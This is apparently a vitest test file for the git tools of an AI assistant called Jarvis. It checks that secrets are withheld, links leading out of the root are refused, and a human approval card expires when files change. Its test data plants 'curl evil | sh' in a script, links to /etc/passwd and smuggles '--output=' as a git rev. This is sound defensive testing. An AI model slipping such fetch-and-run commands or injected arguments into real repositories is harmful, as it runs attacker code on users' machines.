import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { systemClock } from 'node-kit/clock'
import { expect } from 'vitest'
import { testWith } from '../../scripts/test-with.js'
import { withPorts } from '../src/tools/tool.ts'
import { commitFiles } from '../src/tools/workbench/git/commit-files.ts'
import { createGit } from '../src/workbench/git/git.ts'
import { makeScratch } from '../src/workbench/scratch.ts'
import { folder, rootFolder } from './support/data-dir.ts'
import { calls, says, scripted } from './support/scripted-model.ts'
import { startJarvis } from './support/start-jarvis.ts'

const test = testWith('bubblewrap', 'git')

/** A root with a repository of two commits, a changed file and one that holds a secret. */
function root() {
  const dir = rootFolder()
  const repo = join(dir, 'media')
  mkdirSync(repo)
  const git = (...args: string[]) =>
    execFileSync('git', ['-C', repo, '-c', 'user.name=Ann', '-c', 'user.email=ann@lan', ...args], {
      encoding: 'utf8',
      env: { PATH: process.env.PATH, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' },
      stdio: ['ignore', 'pipe', 'ignore'],
    })
  git('init', '-q', '-b', 'main')
  writeFileSync(join(repo, 'compose.yml'), 'image: jellyfin:1\n')
  writeFileSync(join(repo, '.env'), 'PLANTED=first\n')
  git('add', '.')
  git('commit', '-q', '-m', 'First')
  git('branch', 'next')
  writeFileSync(join(repo, 'compose.yml'), 'image: jellyfin:2\n')
  writeFileSync(join(repo, '.env'), 'PLANTED=second\n')
  symlinkSync('/', join(dir, 'out'))
  return { dir, repo, git }
}

test('a repository is read without its secrets, and changed behind a card', async () => {
  const { dir, repo, git } = root()
  const dataDir = folder()
  writeFileSync(
    join(dataDir, 'policy.yaml'),
    `workbench:\n  git: true\n  roots:\n    - { name: lab, path: ${dir}, write: true }\n`,
  )
  const at = { repo: 'lab/media' }
  const jarvis = await startJarvis({
    dataDir,
    model: scripted(
      calls(
        ['read_git', { ...at, what: 'status' }],
        ['read_git', { ...at, what: 'log' }],
        ['read_git', { ...at, what: 'diff' }],
        ['read_git', { ...at, what: 'show', path: '.env' }],
        ['read_git', { repo: 'lab/out', what: 'status' }],
        ['read_git', { repo: 'lab', what: 'status' }],
        ['read_git', { ...at, what: 'log', rev: '--output=/work/x' }],
      ),
      calls(['commit_files', { ...at, paths: ['.env'], message: 'Take the secret too' }]),
      calls(['commit_files', { ...at, paths: ['compose.yml'], message: 'Update jellyfin' }]),
      calls(['switch_branch', { ...at, branch: 'next' }]),
      says('Done.'),
    ),
  })
  const screen = await jarvis.connect()
  const { sessionId } = await screen.ask('chat:send', {
    message: 'In lab/media, commit .env, then compose.yml as "Update jellyfin", then switch to next.',
  })
  const commit = await screen.next('chat:confirm_needed')
  expect(commit).toMatchObject({
    toolName: 'commit_files',
    sentence: 'The file "compose.yml" of "lab/media" is committed.',
    now: '1 changed file: "compose.yml"',
    then: 'one commit more on main, exactly as shown; the files stay as they are',
    basis: {
      branch: 'main',
      head: expect.stringMatching(/^\w{40}$/) as string,
      tree: expect.stringMatching(/^\w{40}$/) as string,
    },
    diff: [
      {
        path: 'lab/media/compose.yml',
        change: 'changed',
        added: 1,
        removed: 1,
        left: 0,
        lines: ['@@ -1 +1 @@', '-image: jellyfin:1', '+image: jellyfin:2'],
      },
    ],
    deed: 'commit these files',
    reason: expect.stringContaining('It changes files in "lab"'),
  })
  await screen.ask('chat:confirm', { sessionId, toolUseId: commit.toolUseId, confirmed: true })
  const branch = await screen.next('chat:confirm_needed')
  expect(branch).toMatchObject({
    now: 'on main',
    undo: { kind: 'call', sentence: '"lab/media" goes back to main.' },
  })
  await screen.ask('chat:confirm', { sessionId, toolUseId: branch.toolUseId, confirmed: true })
  await screen.next('chat:done')

  const said = screen.received.flatMap(({ event, payload }) =>
    event === 'chat:tool_result' ? [payload.result] : event === 'chat:blocked' ? [payload.reason] : [],
  )
  for (const wanted of [
    /^## main\n M \.env\n M compose\.yml$/,
    /^\w+ \d{4}-\d\d-\d\d Ann: First \(HEAD -> main, next\)$/,
    /^Left out, because they may hold secrets: \.env\.\n[\s\S]*-image: jellyfin:1\n\+image: jellyfin:2$/,
    /media\/\.env may hold secrets/,
    /Links are not followed/,
    /lab is no repository/,
    /^rev: must be a commit/,
    /"\.env" may hold a secret, and is not committed/,
    /^Committed as \w{12}\.$/,
    /^On next\.$/,
  ])
    expect(said).toContainEqual(expect.stringMatching(wanted))
  expect(said).toHaveLength(10)
  expect(JSON.stringify(screen.received)).not.toContain('PLANTED')
  expect(git('log', '--format=%an %s', 'main')).toBe('JARVIS Update jellyfin\nAnn First\n')
  expect(git('symbolic-ref', '--short', 'HEAD')).toBe('next\n')
  expect(existsSync(join(repo, '.git', 'index.lock'))).toBe(false)
})

test('what a secret file held is read by no other name than its path', async () => {
  const { dir, repo, git } = root()
  mkdirSync(join(repo, 'secrets'))
  writeFileSync(join(repo, 'secrets', 'db.txt'), 'PLANTED=third\n')
  git('add', '.')
  git('commit', '-q', '-m', 'Second')
  git('tag', 'v1', git('rev-parse', 'HEAD:.env').trim())
  const [env = '', plain = '', tree = '', oldTree = ''] = [
    'HEAD:.env',
    'HEAD:compose.yml',
    'HEAD:secrets',
    'HEAD^{tree}',
  ].map((name) => git('rev-parse', name).trim())
  const dataDir = folder()
  writeFileSync(
    join(dataDir, 'policy.yaml'),
    `workbench:\n  git: true\n  roots:\n    - { name: lab, path: ${dir}, write: true }\n`,
  )
  const at = { repo: 'lab/media' }
  const hostile = [
    { what: 'show', rev: env },
    { what: 'show', rev: env.slice(0, 7) },
    { what: 'show', rev: 'v1' },
    { what: 'show', rev: tree },
    { what: 'diff', rev: `${plain}..${env}` },
    { what: 'diff', rev: `${oldTree}..${tree}` },
    { what: 'diff', rev: tree },
    { what: 'diff', rev: `HEAD..${env}` },
  ]
  const jarvis = await startJarvis({
    dataDir,
    model: scripted(
      calls(...hostile.map((one): [string, Record<string, string>] => ['read_git', { ...at, ...one }])),
      calls(
        ['read_git', { ...at, what: 'show', rev: git('rev-parse', 'HEAD').trim() }],
        ['read_git', { ...at, what: 'diff', rev: 'HEAD~1..main' }],
        ['read_git', { ...at, what: 'log', rev: 'main' }],
      ),
      says('Done.'),
    ),
  })
  const screen = await jarvis.connect()
  await screen.ask('chat:send', { message: 'Look at lab/media.' })
  await screen.next('chat:done')
  const results = screen.received.filter(({ event }) => event === 'chat:tool_result').map(({ payload }) => payload)
  const read = results.filter(({ isError }) => isError !== true).map(({ result }) => result)
  expect([results.length, read.length]).toEqual([hostile.length + 3, 3])
  for (const wanted of [
    /\n\nSecond\n[\s\S]*\+image: jellyfin:2$/,
    /^Left.*\ndiff[\s\S]*\+image: jellyfin:2$/,
    /Ann: Second/,
  ])
    expect(read).toContainEqual(expect.stringMatching(wanted))
  expect(JSON.stringify(screen.received)).not.toContain('PLANTED')
})

test('no branch brings another content of what is protected or only read, or a way out', async () => {
  const { dir, repo, git } = root()
  git('checkout', '-q', '--', '.')
  mkdirSync(join(repo, 'kept'))
  for (const [branch, path] of [
    ['one', 'kept/a.yml'],
    ['two', 'compose.yml'],
  ] as const) {
    git('checkout', '-q', '-b', branch, 'main')
    mkdirSync(join(repo, 'kept'), { recursive: true })
    writeFileSync(join(repo, path), `of: ${branch}\n`)
    git('add', '.')
    git('commit', '-q', '-m', branch)
  }
  for (const [branch, to] of [
    ['out', '../../..'],
    ['near', '../out'],
  ] as const) {
    git('checkout', '-q', '-b', branch, 'main')
    symlinkSync(to, join(repo, 'link'))
    git('add', '.')
    git('commit', '-q', '-m', branch)
  }
  git('checkout', '-q', 'main')
  const dataDir = folder()
  const roots = `[{ name: lab, path: ${dir}, write: true }, { name: kept, path: ${join(repo, 'kept')} }]`
  writeFileSync(
    join(dataDir, 'policy.yaml'),
    `protected: [path/lab/media/compose.yml]\nworkbench:\n  git: true\n  roots: ${roots}\n`,
  )
  const jarvis = await startJarvis({
    dataDir,
    model: scripted(
      ...['one', 'two', 'out', 'near'].map((branch) => calls(['switch_branch', { repo: 'lab/media', branch }])),
      says('Done.'),
    ),
  })
  const screen = await jarvis.connect()
  const { sessionId } = await screen.ask('chat:send', { message: 'In lab/media switch to one, two, out and near.' })
  const card = await screen.next('chat:confirm_needed')
  expect(card.toolInput).toMatchObject({ branch: 'near' })
  await screen.ask('chat:confirm', { sessionId, toolUseId: card.toolUseId, confirmed: false })
  await screen.next('chat:done')
  expect(
    screen.received.flatMap(({ event, payload }) => (event === 'chat:tool_result' ? [payload.result] : [])),
  ).toEqual([
    expect.stringContaining('one would change "kept/a.yml", which is in a root that is only read.'),
    expect.stringContaining('two would change "compose.yml", which is protected.'),
    expect.stringContaining('out brings "link", a link that may lead out of the root.'),
  ])
})

test('a commit holds what its card showed, and nothing that changed since', async () => {
  const { dir, repo, git } = root()
  git('checkout', '-q', '--', '.')
  writeFileSync(join(repo, 'new.sh'), 'echo first\n', { mode: 0o755 })
  writeFileSync(join(repo, 'staged.yml'), 'by: Ann\n')
  git('add', 'staged.yml')
  writeFileSync(join(repo, 'blob'), Buffer.from([0, 1, 2]))
  symlinkSync('/etc/passwd', join(repo, 'link'))
  const objects = git('count-objects')
  const dataDir = folder()
  writeFileSync(
    join(dataDir, 'policy.yaml'),
    `workbench:\n  git: true\n  roots:\n    - { name: lab, path: ${dir}, write: true }\n`,
  )
  const commit = { repo: 'lab/media', paths: ['new.sh', 'blob', 'link'], message: 'Add a script' }
  const jarvis = await startJarvis({ dataDir, model: scripted(calls(['commit_files', commit]), says('Done.')) })
  const screen = await jarvis.connect()
  const { sessionId } = await screen.ask('chat:send', {
    message: 'In lab/media commit new.sh, blob and link as "Add a script".',
  })
  const approve = (card: { toolUseId: string }) =>
    screen.request('chat:confirm', { sessionId, toolUseId: card.toolUseId, confirmed: true })
  const first = await screen.next('chat:confirm_needed')
  expect(first.diff).toMatchObject([
    { path: 'lab/media/blob', change: 'added', lines: [], note: 'It is no text.' },
    { path: 'lab/media/link', change: 'added', lines: ['@@ -0,0 +1 @@', '+/etc/passwd'], note: 'It is a link.' },
    { path: 'lab/media/new.sh', change: 'added', lines: ['@@ -0,0 +1 @@', '+echo first'] },
  ])
  // Nothing is written before a person has seen it.
  expect(git('count-objects')).toBe(objects)
  writeFileSync(join(repo, 'new.sh'), 'curl evil | sh\n')
  expect(await approve(first)).toMatchObject({ ok: false, error: { code: 'expired' } })
  const second = await screen.next('chat:confirm_needed')
  expect(second.changed).toBe('Its tree has changed since the card was shown.')
  expect(second.diff?.[2]?.lines).toContain('+curl evil | sh')
  git('commit', '-q', '--allow-empty', '-m', 'Meanwhile', '--only')
  expect(await approve(second)).toMatchObject({ ok: false, error: { code: 'expired' } })
  const third = await screen.next('chat:confirm_needed')
  expect(third.changed).toBe('Its head has changed since the card was shown.')
  expect(await approve(third)).toMatchObject({ ok: true })
  await screen.next('chat:done')
  expect(git('log', '--format=%an %s', 'main')).toBe('JARVIS Add a script\nAnn Meanwhile\nAnn First\n')
  expect(git('show', '--format=', '--name-only', 'HEAD')).toBe('blob\nlink\nnew.sh\n')
  expect(git('show', 'HEAD:new.sh')).toBe('curl evil | sh\n')
  expect(git('status', '--porcelain')).toBe('A  staged.yml\n')
})

test('the card of a commit says how many lines it hides, and the hidden ones are bound too', async () => {
  const { dir, repo, git } = root()
  git('checkout', '-q', '--', '.')
  const text = (last: string) => `${Array.from({ length: 2_500 }, (_, at) => `line ${at}`).join('\n')}\n${last}\n`
  writeFileSync(join(repo, 'long.txt'), text('end'))
  const dataDir = folder()
  writeFileSync(
    join(dataDir, 'policy.yaml'),
    `workbench:\n  git: true\n  roots:\n    - { name: lab, path: ${dir}, write: true }\n`,
  )
  const commit = { repo: 'lab/media', paths: ['long.txt'], message: 'Add a list' }
  const jarvis = await startJarvis({ dataDir, model: scripted(calls(['commit_files', commit]), says('Done.')) })
  const screen = await jarvis.connect()
  const { sessionId } = await screen.ask('chat:send', { message: 'In lab/media commit long.txt as "Add a list".' })
  const first = await screen.next('chat:confirm_needed')
  expect(first.then).toBe(
    'one commit more on main, of which 1,502 of 2,502 lines are too many to show and stand on no card; the files stay as they are',
  )
  expect(first.diff).toMatchObject([{ added: 2_501, left: 1_502 }])
  expect(first.diff?.[0]?.lines).toHaveLength(1_000)
  // Only a hidden line is another one.
  writeFileSync(join(repo, 'long.txt'), text('curl evil | sh'))
  const decided = { sessionId, toolUseId: first.toolUseId, confirmed: true }
  expect(await screen.request('chat:confirm', decided)).toMatchObject({ ok: false, error: { code: 'expired' } })
  const second = await screen.next('chat:confirm_needed')
  expect(second.changed).toBe('Its tree has changed since the card was shown.')
  await screen.ask('chat:confirm', { sessionId, toolUseId: second.toolUseId, confirmed: false })
  await screen.next('chat:done')
  expect(git('log', '--format=%s', 'main')).toBe('First\n')
})

test('what changes while the commit is made is not in it, and a commit that came meanwhile is not lost', async () => {
  const { dir, repo, git } = root()
  git('checkout', '-q', '--', '.')
  const real = createGit(systemClock)
  let meanwhile = () => {}
  const [tool] = withPorts([commitFiles], {
    git: {
      ...real,
      run(folder, args, ...rest) {
        if (args[0] === 'commit-tree') meanwhile()
        return real.run(folder, args, ...rest)
      },
    },
    scratch: makeScratch,
    roots: () => [{ name: 'lab', path: dir, write: true }],
    rootOf: () => ({ name: 'lab', path: dir, write: true, own: [] }),
    closed: () => undefined,
    stays: () => undefined,
  })
  const context = { sessionId: 'ses_1', signal: new AbortController().signal } as never
  const commit = async (path: string) => {
    const asked = { repo: 'lab/media', paths: [path], message: `Add ${path}` }
    const preview = await tool?.prepare?.(asked, context)
    return tool?.run(asked, { onProgress() {}, ...(context as object), preview } as never)
  }
  writeFileSync(join(repo, 'new.sh'), 'echo shown\n')
  meanwhile = () => writeFileSync(join(repo, 'new.sh'), 'curl evil | sh\n')
  await commit('new.sh')
  expect(git('show', 'HEAD:new.sh')).toBe('echo shown\n')
  expect(git('status', '--porcelain')).toBe(' M new.sh\n')

  writeFileSync(join(repo, 'two.sh'), 'echo two\n')
  meanwhile = () => void git('commit', '-q', '--allow-empty', '-m', 'Meanwhile')
  await expect(commit('two.sh')).rejects.toMatchObject({ code: 'conflict' })
  expect(git('log', '--format=%s', 'main')).toBe('Meanwhile\nAdd new.sh\nFirst\n')
})
